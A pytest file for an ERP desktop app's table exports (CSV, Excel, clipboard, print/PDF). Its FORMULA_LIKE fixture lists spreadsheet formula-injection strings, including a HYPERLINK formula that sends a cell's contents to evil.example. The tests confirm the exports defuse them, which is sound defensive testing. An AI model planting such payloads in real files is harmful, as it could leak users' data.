"""CSV, Excel and clipboard exports of table models; the table actions that drive them."""

from __future__ import annotations

import csv
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from PySide6.QtCore import QItemSelectionModel, Qt
from PySide6.QtGui import QStandardItem, QStandardItemModel
from PySide6.QtWidgets import QApplication, QFileDialog, QMainWindow, QTableView

from erp_desktop.ui import export, print_preview, table_actions
from erp_desktop.ui.export import RAW_ROLE, copy_selection, export_csv, export_xlsx, model_report
from erp_desktop.ui.runner import InlineRunner
from erp_desktop.ui.table_model import Column, KeysetTableModel, Page, RowsTableModel

STAMP = datetime(2024, 5, 1, 6, 30, tzinfo=UTC)


@dataclass(frozen=True)
class Row:
    code: str
    qty: Decimal
    count: int
    day: date
    at: datetime


def _columns():
    return [
        Column("Code", lambda r: r.code),
        Column("Quantity", lambda r: r.qty, text=lambda v: f"{v:,f}".replace(",", "\u202f"), align_right=True),
        Column("Count", lambda r: r.count, align_right=True),
        Column("Day", lambda r: r.day, text=lambda v: v.isoformat()),
        Column("At", lambda r: r.at, text=lambda v: "local text"),
    ]


def _rows(n: int = 3):
    return [Row(f"P-{i}", Decimal("1234.500") * i, i, date(2024, 5, i), STAMP) for i in range(1, n + 1)]


@pytest.fixture
def model(qapp):
    m = RowsTableModel(_columns())
    m.set_rows(_rows())
    return m


def test_raw_role_is_the_table_models_role():
    assert RAW_ROLE == Qt.ItemDataRole.UserRole + 100


def test_csv_has_bom_header_and_plain_numbers(model, tmp_path):
    path = tmp_path / "t.csv"
    assert export_csv(model, path) == 3
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(data.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["Code", "Quantity", "Count", "Day", "At"]
    local = STAMP.astimezone().strftime("%Y-%m-%d %H:%M:%S")
    assert rows[1] == ["P-1", "1234.500", "1", "2024-05-01", local]
    assert rows[3][1] == "3703.500"
    assert len(rows) == 4


def test_csv_of_a_model_without_raw_role_uses_display_text(qapp, tmp_path):
    m = QStandardItemModel(2, 2)
    m.setHorizontalHeaderLabels(["A", "B"])
    for r in range(2):
        for c in range(2):
            m.setItem(r, c, QStandardItem(f"{r}{c}"))
    export_csv(m, tmp_path / "s.csv")
    assert (tmp_path / "s.csv").read_text(encoding="utf-8-sig").splitlines() == ["A,B", "00,01", "10,11"]


def test_csv_fetches_every_page_of_a_lazy_model(qapp, tmp_path):
    rows = _rows(25)

    def fetch(cursor):
        start = cursor or 0
        chunk = rows[start:start + 10]
        return Page(tuple(chunk), start + 10 < len(rows), start + 10)

    lazy = KeysetTableModel(_columns(), InlineRunner(), fetch)
    lazy.reload()
    assert lazy.rowCount() == 10
    assert export_csv(lazy, tmp_path / "lazy.csv") == 25


def test_xlsx_cells_are_typed(model, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "t.xlsx"
    assert export_xlsx(model, path, title="Stock: May/2024") == 3
    sheet = load_workbook(path).active
    assert sheet.title == "Stock  May 2024"
    assert [c.value for c in sheet[1]] == ["Code", "Quantity", "Count", "Day", "At"]
    assert sheet["A1"].font.bold
    qty, count, day, at = sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"]
    assert isinstance(qty.value, int | float) and qty.value == 1234.5
    assert qty.number_format == "#,##0.000"
    assert isinstance(count.value, int) and count.value == 1
    assert isinstance(day.value, datetime) and day.value.date() == date(2024, 5, 1)
    assert day.number_format == "yyyy-mm-dd"
    assert isinstance(at.value, datetime) and at.value == STAMP.astimezone().replace(tzinfo=None)
    assert sheet["A2"].value == "P-1"
    assert sheet.freeze_panes == "A2"
    assert 8 <= sheet.column_dimensions["B"].width <= 60


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=2+2", "+1", "-2+3", "@SUM(A1:A9)", "\tx",
                "\r=1+1"]


@pytest.fixture
def hostile_model(qapp):
    """Names a user could type, beside real numbers (negatives too) that must stay numbers."""
    m = RowsTableModel(_columns())
    m.set_rows([Row(name, Decimal("-12.500") * i, -i, date(2024, 5, 1), STAMP)
                for i, name in enumerate(FORMULA_LIKE + ["plain", "a=b"], start=1)])
    return m


def test_csv_writes_formula_like_text_behind_a_quote_and_numbers_as_numbers(hostile_model, tmp_path):
    path = tmp_path / "h.csv"
    assert export_csv(hostile_model, path) == len(FORMULA_LIKE) + 2
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[0] for row in rows] == ["'" + name for name in FORMULA_LIKE] + ["plain", "a=b"]
    assert rows[0][1:3] == ["-12.500", "-1"]  # a negative number is a number, not a formula
    assert rows[3][1:3] == ["-50.000", "-4"]


def test_xlsx_writes_formula_like_text_as_strings_and_numbers_as_numbers(hostile_model, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "h.xlsx"
    export_xlsx(hostile_model, path)
    sheet = load_workbook(path).active
    names = [sheet.cell(row=r, column=1) for r in range(2, len(FORMULA_LIKE) + 4)]
    # XML reads a carriage return back as a line feed
    assert [c.value for c in names] == [n.replace("\r", "\n") for n in FORMULA_LIKE] + ["plain", "a=b"]
    assert all(c.data_type == "s" for c in names), [(c.value, c.data_type) for c in names]
    assert all(c.quotePrefix for c in names[:len(FORMULA_LIKE)])
    qty, count = sheet["B2"], sheet["C2"]
    assert qty.data_type == "n" and qty.value == -12.5 and qty.number_format == "#,##0.000"
    assert count.data_type == "n" and count.value == -1
    # nothing in the file is a formula: no <f> element in the sheet's XML
    import zipfile

    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_write_to_a_missing_folder_is_a_clear_error(model, tmp_path):
    from erp_desktop.errors import ErpError

    with pytest.raises(ErpError, match="Could not write"):
        export_csv(model, tmp_path / "missing" / "t.csv")


def _view(model, qtbot) -> QTableView:
    view = QTableView()
    view.setModel(model)
    qtbot.addWidget(view)
    return view


def test_copy_selection_puts_tab_separated_cells_on_the_clipboard(model, qtbot):
    view = _view(model, qtbot)
    selection = view.selectionModel()
    for row in (0, 2):
        for column in (0, 1):
            selection.select(model.index(row, column), QItemSelectionModel.SelectionFlag.Select)
    assert copy_selection(view) == "P-1\t1234.500\nP-3\t3703.500"
    assert QApplication.clipboard().text() == "P-1\t1234.500\nP-3\t3703.500"


def test_model_report_prints_the_whole_table(model, qapp):
    report = model_report(model, title="Stock", organization="Plant A", printed_by="Anna")
    text = report.document().toPlainText()
    assert "Stock" in text and "P-3" in text and "3\u202f703.500" in text and "3 rows" in text


def test_table_actions_copy_and_export(model, qtbot, tmp_path, monkeypatch):
    window = QMainWindow()
    qtbot.addWidget(window)
    view = _view(model, qtbot)
    window.setCentralWidget(view)
    built = []

    def builder():
        built.append(1)
        return model_report(model, title="Stock", organization="Plant A")

    actions = table_actions.install_table_actions(view, title="Stock", report_builder=builder)
    names = [a.text() for a in actions]
    assert names == ["Copy", "Export to CSV...", "Export to Excel...", "Print preview...", "Print...",
                     "Save as PDF..."]
    assert view.contextMenuPolicy() == Qt.ContextMenuPolicy.ActionsContextMenu

    QApplication.clipboard().setText("")
    view.selectAll()
    qtbot.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QApplication.clipboard().text().splitlines()[0] == "P-1\t1234.500\t1\t2024-05-01\t" + \
        STAMP.astimezone().strftime("%Y-%m-%d %H:%M:%S")

    targets = iter([tmp_path / "out", tmp_path / "out", tmp_path / "out"])
    monkeypatch.setattr(QFileDialog, "getSaveFileName", staticmethod(lambda *a: (str(next(targets)), "")))
    actions.export_csv.trigger()
    actions.export_xlsx.trigger()
    actions.save_pdf.trigger()
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (tmp_path / "out.xlsx").read_bytes().startswith(b"PK")
    assert (tmp_path / "out.pdf").read_bytes().startswith(b"%PDF")
    assert built == [1]
    assert window.statusBar().currentMessage() == f"PDF saved to {tmp_path / 'out.pdf'}"  # says where


def test_table_actions_without_report_builder_have_no_print(model, qtbot):
    view = _view(model, qtbot)
    actions = table_actions.install_table_actions(view, title="Stock")
    assert actions.print is None and len(list(actions)) == 3


def test_failed_export_shows_the_error(model, qtbot, tmp_path, monkeypatch, _no_modal_boxes):
    view = _view(model, qtbot)
    actions = table_actions.install_table_actions(view, title="Stock")
    monkeypatch.setattr(QFileDialog, "getSaveFileName",
                        staticmethod(lambda *a: (str(tmp_path / "missing" / "x.csv"), "")))
    actions.export_csv.trigger()
    assert _no_modal_boxes and "Could not write" in _no_modal_boxes[0][1][2]


def test_modules_expose_the_dialog_helpers():
    assert callable(export.fetch_all) and callable(print_preview.ask_save_path)


@pytest.fixture
def russian_language(qapp):
    from erp_desktop.ui import language

    assert language.apply_language(language.RUSSIAN)
    yield
    language.apply_language(language.ENGLISH)


def test_csv_for_a_russian_excel(russian_language, model, hostile_model, tmp_path, qtbot):
    path = tmp_path / "ru.csv"
    assert export_csv(model, path) == 3
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    local = STAMP.astimezone().strftime("%d.%m.%Y %H:%M:%S")
    assert lines[0] == "Code;Quantity;Count;Day;At"
    assert lines[1] == f"P-1;1234,500;1;01.05.2024;{local}"
    export_csv(hostile_model, path)  # the formula guard holds in Russian too
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))[1:]
    assert rows[1][0] == "'=2+2" and rows[0][1:3] == ["-12,500", "-1"]
    view = _view(model, qtbot)
    view.selectionModel().select(model.index(0, 1), QItemSelectionModel.SelectionFlag.Select)
    assert copy_selection(view) == "1234,500"  # pastes as a number into a Russian Excel


def test_xlsx_shows_money_with_two_places_and_quantities_with_three(qapp, tmp_path):
    from openpyxl import load_workbook

    from erp_desktop.ui.stock.common import fmt_value

    @dataclass(frozen=True)
    class Line:
        qty: Decimal
        value: Decimal

    m = RowsTableModel([Column("Qty", lambda r: r.qty, align_right=True,
                               text=lambda v: f"{v:,f}".replace(",", "\u202f")),
                        Column("Value", lambda r: r.value, text=fmt_value, align_right=True)])
    m.set_rows([Line(Decimal("12.500"), Decimal("1234.5678901"))])
    for lang in ("en", "ru"):
        from erp_desktop.ui import language

        language.apply_language(lang)
        try:
            export_xlsx(m, tmp_path / f"{lang}.xlsx")
        finally:
            language.apply_language(language.ENGLISH)
        sheet = load_workbook(tmp_path / f"{lang}.xlsx").active
        assert sheet["A2"].number_format == "#,##0.000" and sheet["B2"].number_format == "#,##0.00"
        assert float(sheet["B2"].value) == pytest.approx(1234.5678901)  # the exact value; shown to the cent
    from erp_desktop.ui.export import decimal_places

    assert decimal_places(Decimal("1.0000000")) == 2 and decimal_places(Decimal("1.000")) == 3
